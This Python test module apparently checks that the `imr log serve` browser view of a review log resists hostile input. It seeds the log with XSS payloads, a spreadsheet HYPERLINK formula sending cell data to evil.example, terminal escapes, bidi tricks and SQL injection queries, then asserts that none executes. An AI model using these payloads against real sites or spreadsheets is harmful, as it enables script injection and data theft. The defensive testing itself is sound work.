"""`imr log serve` in a real browser, as an auditor goes through it, over a log with hostile words in it."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from click.testing import CliRunner

from assistant import library
from assistant.cli.main import cli
from assistant.core import commands as c
from assistant.core.access_events import AuditNoteAdded
from assistant.core.text import visible
from assistant.core.value import replace
from assistant.log import Log
from assistant.log.access import note
from assistant.log.report import reports
from assistant.log.sql import csv_cell
from assistant.profile import Profile
from assistant.review import answers_file
from assistant.review.review import Review
from tests.prove import browser, scale
from tests.prove.browser import Browser, Page
from tests.prove.scale import Proved

if not scale.ALL:
    pytest.skip("the browser is tried by `make prove` only", allow_module_level=True)
if browser.found() is None:
    pytest.skip(browser.MISSING, allow_module_level=True)

CASE = "cervical-radiographs-after-fusion"
RUN = "document.title=`owned`;window.owned=1;alert(1)"
MARKUP = f"<script>{RUN}</script><img src=x onerror='{RUN}'><svg onload='{RUN}'></svg></td></textarea></style><base href='http://evil.example/'>"
HOSTILE = (
    f"{MARKUP} \x1b[2J\x1b]0;t\x07 \u202egnp.exe\u2066 \u200b &lt;b&gt; {{{{7*7}}}} [x](javascript:{RUN})"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
LINK = f"javascript:{RUN}//"
WEB = 'http://evil.example/a"onmouseover="x'


def hostile_case(folder: Path) -> Path:
    """A copy of the bundled case with hostile words in its title, a document's author and a page."""
    made = Path(shutil.copytree(library.folder("casebank") / CASE, folder / "case"))
    text = (made / "case.yaml").read_text("utf-8")
    quoted = '"' + HOSTILE.encode("unicode_escape").decode().replace('"', '\\"') + '"'
    for was in ("title: Cervical radiographs after a fusion", "complaint: chronic neck pain"):
        assert text.count(f"{was}\n") == 1
        text = text.replace(f"{was}\n", f"{was.partition(':')[0]}: {quoted}\n")
    text = text.replace("author: radiologist", f"author: {quoted}")
    (made / "case.yaml").write_text(text, "utf-8")
    page = made / "records" / "progress-note-2014-07-17.txt"
    page.write_text(page.read_text("utf-8").replace("Plan", f"{HOSTILE}\nPlan", 1), "utf-8")
    return made


def write_log(path: Path, case: Path) -> None:
    """A signed reference review, one with hostile words wherever a person may write any, and a note on it."""
    file = answers_file.read_answers_file(library.folder("casebank") / CASE / "reference.yaml")
    with Log.open(path) as log:
        review = Review.open(log, library.find_case(CASE), Profile("r-plain"), "practice")
        assert answers_file.run_answers(review, file).open == []
        review.close()
        spoken = f"{FORMULA} {HOSTILE}"
        words = replace(
            file,
            determinations={"1": {"decision": "overturned", "reason": HOSTILE}},
            edits={"1": [{"sentence": 1, "text": HOSTILE}, {"sentence": 2, "text": FORMULA}]},
            acknowledge={
                **dict.fromkeys(file.acknowledge, spoken),
                "unsupported-finding": {f"1/sentence {each}": spoken for each in (1, 2)},
            },
        )
        review = Review.open(log, library.find_case(str(case)), Profile(f"r-{MARKUP}"), "practice")
        for typed in (HOSTILE, FORMULA, LINK, WEB, f"\u202e{FORMULA}", f"\t{FORMULA}"):
            review.perform(c.AddNote("case", "qualifications", typed))
            review.perform(c.RejectInput("case", "qualifications", typed, typed))
        assert answers_file.run_answers(review, words).open == []
        review.close()
    assert note(path, AuditNoteAdded(review.session.id, HOSTILE)) == ""


@dataclass(frozen=True)
class Served:
    """A running `imr log serve`: its log, the address that it printed without its last slash, and that address."""

    log: Path
    base: str
    link: str
    plain: str
    hostile: str
    sitting: str

    def imr(self, *arguments: str) -> Any:
        """What a command prints as JSON."""
        own = {"IMR_CONFIG": str(self.log.parent / "config")}
        done = CliRunner().invoke(cli, [*arguments, "--json", "--log", str(self.log)], env=own)
        assert done.exit_code == 0, done.output
        return json.loads(done.stdout)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The command as it is started by hand; it may not say a word that is an error."""
    folder = tmp_path_factory.mktemp("served")
    log, errors = folder / "log.sqlite", folder / "errors"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("IMR_CONFIG", str(folder / "config"))
        write_log(log, hostile_case(folder))
    with Log.open(log, write=False) as held:
        newest, first = (row.id for row in held.sessions())
        sitting = held.sessions(others=True)[0].id
    environment = {**os.environ, "IMR_CONFIG": str(folder / "config")}
    command = [sys.executable, "-m", "assistant", "log", "serve", "--log", str(log)]
    with errors.open("wb") as said:
        process = browser.tied(command, stdout=subprocess.PIPE, stderr=said, env=environment)
        assert process.stdout is not None
        link = process.stdout.readline().decode().removeprefix("Open ").strip()
        assert link, errors.read_text("utf-8")
        try:
            yield Served(log, link.removesuffix("/"), link, first, newest, sitting)
            assert process.poll() is None
        finally:
            process.send_signal(signal.SIGINT)
            process.wait(10)
            process.stdout.close()
    assert errors.read_text("utf-8") == ""


@pytest.fixture(scope="module")
def program() -> Iterator[Browser]:
    with browser.chromium() as started:
        yield started


@pytest.fixture
def fresh(program: Browser) -> Iterator[Page]:
    """A page that knows nothing of the log."""
    page = program.open()
    page.size(1280)
    yield page
    program.close(page)


@pytest.fixture
def page(fresh: Page, program: Browser, served: Served) -> Iterator[Page]:
    """A page at the printed address; afterwards nothing has gone wrong, left this computer or opened a window."""
    windows = program.pages
    fresh.open(served.link)
    yield fresh
    assert fresh.trouble == []
    ours = (f"{served.base}/", f"{served.base.rsplit('/', 1)[0]}/favicon.ico")
    assert [one for one in fresh.requests if not one.startswith(ours)] == []
    assert program.pages == windows


def expect(page: Page, status: int) -> None:
    """Takes from the trouble what the browser says of answers with this status, which has to be there."""
    known = [one for one in page.trouble if f"status of {status} " in one]
    assert known
    page.trouble[:] = [one for one in page.trouble if one not in known]


def rows(page: Page) -> list[dict[str, str]]:
    """The rows of the table on a page, by column."""
    names, cells = page.run(
        """(() => {
            const read = one => [...one.children].map(cell => cell.textContent);
            const table = document.querySelector("table.rows-and-columns");
            return table ? [read(table.tHead.rows[0]).map(one => one.trim()), [...table.tBodies[0].rows].map(read)] : [[], []];
        })()"""
    )
    return [dict(zip(names, row, strict=True)) for row in cells]


def shown(value: object) -> str:
    """A value of JSON as a cell shows it."""
    return "\u00a0" if value in (None, "") else visible(str(value))


# -- the way in -----------------------------------------------------------------------------------


def test_without_the_key_nothing_is_shown(fresh: Page, served: Served) -> None:
    origin, key = served.base.rsplit("/", 1)
    for path in (
        "/",
        "/log",
        "/log/departures",
        "/log.json",
        f"/session/{served.hostile}",
        f"/?key={key}",
        f"/{key}x/",
    ):
        fresh.open(origin + path)
        assert fresh.text.strip() == "Open the whole address that `imr log serve` has printed, key included."
        assert served.hostile not in str(fresh.run("document.documentElement.outerHTML"))
    fresh.open(served.link.replace("127.0.0.1", "rebound.example"))
    assert fresh.text.strip() == f"This address is not served under that name. Use {origin}."


class _Other(BaseHTTPRequestHandler):
    """A server of somebody else on this computer, which keeps what a browser sends to it."""

    heard: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.heard.append(f"{self.path}\n{self.headers}")
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(b'<title>other</title><img src="/own">')

    def log_message(self, format: str, *args: object) -> None:
        pass


def test_another_port_of_this_computer_is_sent_nothing_that_opens_the_log(
    fresh: Page, served: Served
) -> None:
    with ThreadingHTTPServer(("127.0.0.1", 0), _Other) as other:
        threading.Thread(target=other.serve_forever, daemon=True).start()
        fresh.open(served.link)
        for host in ("127.0.0.1", "localhost"):
            fresh.open(f"http://{host}:{other.server_address[1]}/there")
            assert fresh.title == "other"
        other.shutdown()
    assert len(_Other.heard) >= 4
    key = served.base.rsplit("/", 1)[1]
    assert not any(key in one or "cookie" in one.lower() for one in _Other.heard)


def test_the_first_page_lists_what_is_there_and_sets_no_cookie(page: Page, served: Served) -> None:
    assert page.address == f"{served.base}/"
    assert page.title == "Decision log"
    assert page.run("document.cookie") == ""
    lines = page.text
    for one in reports().values():
        assert f"{one.question} {one.name}" in lines
    assert [(row["session"], row["status"], row["outcome"]) for row in rows(page)] == [
        (served.hostile, "signed", "overturn"),
        (served.plain, "signed", "uphold"),
    ]


# -- reports, tables, sessions --------------------------------------------------------------------


@pytest.mark.parametrize("part", range(2))
def test_each_report_shows_the_rows_that_the_command_gives(page: Page, served: Served, part: int) -> None:
    for one in list(reports().values())[part::2]:
        page.open(f"{served.base}/")
        told = served.imr("log", "report", one.name)
        page.follow("a", one.question)
        assert page.title == f"{one.name} · Decision log"
        assert rows(page) == [{name: shown(value) for name, value in row.items()} for row in told["rows"]]
        for column, meaning in one.columns.items():
            assert f"{column}\n{meaning}" in page.text


def test_a_table_is_narrowed_by_a_facet_and_widened_again(page: Page, served: Served) -> None:
    page.follow("a", "item")
    assert sorted(row["decision"] for row in rows(page)) == ["overturned", "upheld"]
    page.follow(".facet-info a", "overturned")
    assert "decision=overturned" in page.address
    assert [row["session"] for row in rows(page)] == [served.hostile]
    page.follow("#facet-decision a.cross")
    assert len(rows(page)) == 2
    page.open(f"{served.base}/log/session")
    page.follow(".facet-info a", f"r-{MARKUP}")
    assert page.run("document.querySelector('td.col-session a').textContent") == served.hostile
    assert len(rows(page)) == 1


def test_a_row_leads_to_its_step_in_the_session_and_back(page: Page, served: Served) -> None:
    page.follow("a", reports()["departures"].question)
    report, (row,) = page.address, rows(page)
    page.follow("td a", served.hostile)
    assert page.address == f"{served.base}/session/{served.hostile}#{row['seq']}"
    step = str(page.run("document.querySelector('tr:target').innerText"))
    assert "determination.recorded" in step
    assert row["reason"] in step
    steps = page.run(
        "[...document.querySelectorAll('.steps td.n')].map(one => [+one.innerText, one.parentNode.cells[2].innerText])"
    )
    told = served.imr("log", "show", served.hostile)
    assert steps == [[one["seq"], one["kind"]] for one in told]
    page.click("summary")
    letter = CliRunner().invoke(cli, ["letter", served.hostile, "--log", str(served.log)])
    wanted = [" ".join(line.split()) for line in letter.stdout.splitlines() if line.strip()]
    there = " ".join(str(page.run("document.querySelector('.letter pre').innerText")).split())
    assert [line for line in wanted if line not in there] == []
    page.back()
    assert page.address == report
    page.follow("header a", "Decision log")
    assert page.title == "Decision log"


# -- queries --------------------------------------------------------------------------------------


def ask(page: Page, sql: str) -> None:
    page.type("#sql-editor", sql)
    page.follow("input[type=submit]")


def test_a_query_is_answered(page: Page, served: Served) -> None:
    page.follow("a", "Their columns, and a query of your own in SQL")
    ask(page, "SELECT session, decision FROM item ORDER BY decision")
    assert rows(page) == [
        {"session": served.hostile, "decision": "overturned"},
        {"session": served.plain, "decision": "upheld"},
    ]


def test_a_query_that_writes_attaches_or_never_ends_is_refused_in_words(page: Page, served: Served) -> None:
    def state() -> tuple[str, Any]:
        file = Path(f"{served.log}.reports")
        return hashlib.sha256(file.read_bytes()).hexdigest(), served.imr("log", "show", served.hostile)

    before = state()
    page.follow("a", "Their columns, and a query of your own in SQL")
    for sql, why in (
        ("DELETE FROM session", "Statement must be a SELECT"),
        ("ATTACH DATABASE '/tmp/imr-made' AS made", "Statement must be a SELECT"),
        ("SELECT load_extension('/tmp/imr-made')", "not authorized"),
        ("SELECT * FROM pragma_journal_mode('off')", "disallowed PRAGMA"),
        ("WITH x AS (SELECT 1) DELETE FROM session", "not authorized"),
        ("SELECT '<img src=x onerror=alert(1)>' FROM \x1bnowhere", "unrecognized token"),
        (
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n",
            "took too long",
        ),
    ):
        ask(page, sql)
        assert why in page.text, sql
        assert page.run("document.querySelector('#sql-editor').value") == visible(sql)
    expect(page, 400)
    assert state() == before


# -- exports --------------------------------------------------------------------------------------


def test_json_and_csv_hold_the_rows_and_no_formula(page: Page, served: Served) -> None:
    for name in ("rejected-input", "own-words", "departures"):
        told = served.imr("log", "report", name)["rows"]
        assert told
        page.open(f"{served.base}/log/{name}")
        page.follow("a", "JSON")
        held = json.loads(page.run("document.querySelector('pre').textContent"))
        assert held["rows"] == told
        page.open(f"{served.base}/log/{name}")
        page.follow("a", "CSV")
        text = str(page.run("document.querySelector('pre').textContent"))
        assert not {"\x1b", "\u202e", "\u200b"} & set(text)
        cells = list(csv.DictReader(io.StringIO(text)))
        assert cells == [{key: str(csv_cell(value)) for key, value in row.items()} for row in told]
        assert not any(value.lstrip().startswith(("=", "+", "@")) for row in cells for value in row.values())
    assert FORMULA in text or any(
        FORMULA in str(one) for one in served.imr("log", "report", "own-words")["rows"]
    )


# -- hostile words --------------------------------------------------------------------------------

LOOK = """
({
    title: document.title, owned: "owned" in window, text: document.documentElement.textContent,
    made: [...document.querySelectorAll("script, img, svg, iframe, base, object, embed, frame")].map(x => x.outerHTML),
    obeyed: [...document.querySelectorAll("*")].flatMap(x => [...x.attributes].map(a => a.name)).filter(n => /^on/.test(n)),
    links: [...document.querySelectorAll("a[href], link[href], form")].map(x => x.href || x.action),
    wide: document.documentElement.scrollWidth - document.documentElement.clientWidth,
})
"""


def test_no_page_obeys_what_it_shows(page: Page, served: Served, proved: Proved) -> None:
    listed = page.run(
        "[...document.querySelectorAll('a')].map(one => one.href).filter(one => one.includes('/log/'))"
    )
    listed = [one.removeprefix(served.base) for one in listed]
    assert len(listed) > 40
    sessions = [f"/session/{one}" for one in (served.plain, served.hostile, served.sitting)]
    every = ["/", "/log", *listed, *sessions, "/log/item/2"]
    shows = 0
    for path in every:
        page.open(served.base + path)
        for width in (1280, 400):
            page.size(width)
            found = page.run(LOOK)
            assert found["wide"] <= 0, (path, width)
            assert not found["owned"], path
            assert "owned" not in found["title"], path
            assert (found["made"], found["obeyed"]) == ([], []), path
            assert [one for one in found["links"] if not one.startswith(f"{served.base}/")] == [], path
            assert not {"\x1b", "\x07", "\u202e", "\u2066", "\u200b"} & set(found["text"]), path
        shows += visible(MARKUP) in found["text"]
    assert shows > 15
    proved(
        "the browser view, in Chromium",
        f"{len(every)} pages at two widths, {shows} with hostile words: none obeyed, nothing loaded from elsewhere",
    )


def test_the_page_would_not_run_what_was_not_escaped(page: Page, served: Served) -> None:
    """The second wall: markup that got into a page all the same is not run there."""
    page.open(f"{served.base}/session/{served.plain}")
    page.run("words => { document.body.insertAdjacentHTML('beforeend', words); }", HOSTILE)
    page.run("new Promise(done => setTimeout(done, 300))")
    assert not page.run(LOOK)["owned"]
    assert any("Content Security Policy" in one for one in page.trouble)
    page.trouble[:] = [
        one for one in page.trouble if "Content Security Policy" not in one and "/session/x" not in one
    ]


def test_the_same_words_do_harm_where_they_are_obeyed(fresh: Page) -> None:
    """Positive control: the harness hears a script, a dialog, and a request that leaves."""
    fresh.open("data:text/html,<title>page</title>")
    fresh.run(
        "words => { document.write(words + '<img src=http://127.0.0.1:9/away>'); document.close(); }", HOSTILE
    )
    fresh.run("new Promise(done => setTimeout(done, 300))")
    assert fresh.run(LOOK)["owned"]
    assert fresh.title == "owned"
    assert any(one.startswith("dialog: 1") for one in fresh.trouble)
    assert any(one.endswith("/away") for one in fresh.requests)


# -- afterwards -----------------------------------------------------------------------------------

LEFT = """
import sys, time
sys.path.insert(0, sys.argv[1])
from tests.prove import browser
server = browser.tied([sys.executable, "-m", "assistant", "log", "serve", "--log", sys.argv[2]])
with browser.chromium() as program:
    program.open()
    print("ready", server.pid, program.process, flush=True)
    time.sleep(60)
"""


@pytest.fixture
def short() -> Iterator[str]:
    """A folder whose path is short."""
    folder = tempfile.mkdtemp(prefix="imr-")
    yield folder
    shutil.rmtree(folder)


def test_a_killed_run_leaves_no_browser_and_no_server(served: Served, short: str) -> None:
    command = [sys.executable, "-c", LEFT, str(Path(__file__).parents[2]), str(served.log)]
    surroundings = {**os.environ, "TMPDIR": short}
    with subprocess.Popen(command, stdout=subprocess.PIPE, env=surroundings) as running:
        assert running.stdout is not None
        line = next(iter(text.split() for text in running.stdout if text.startswith(b"ready")))
        server, program = int(line[1]), int(line[2])
        assert living(server)
        assert len(living(program)) > 2
        running.kill()
    end = time.monotonic() + browser.PATIENCE
    while (left := living(server) + living(program)) and time.monotonic() < end:
        time.sleep(0.05)
    assert left == []


def living(one: int) -> list[str]:
    """The processes that have this number or belong to its group; what waits to be collected is not among them."""
    found = []
    for file in Path("/proc").glob("[0-9]*/stat"):
        with suppress(OSError):
            state, _, group = file.read_text().rpartition(")")[2].split()[:3]
            if state not in "ZX" and str(one) in (file.parent.name, group):
                found.append(file.parent.name)
    return found
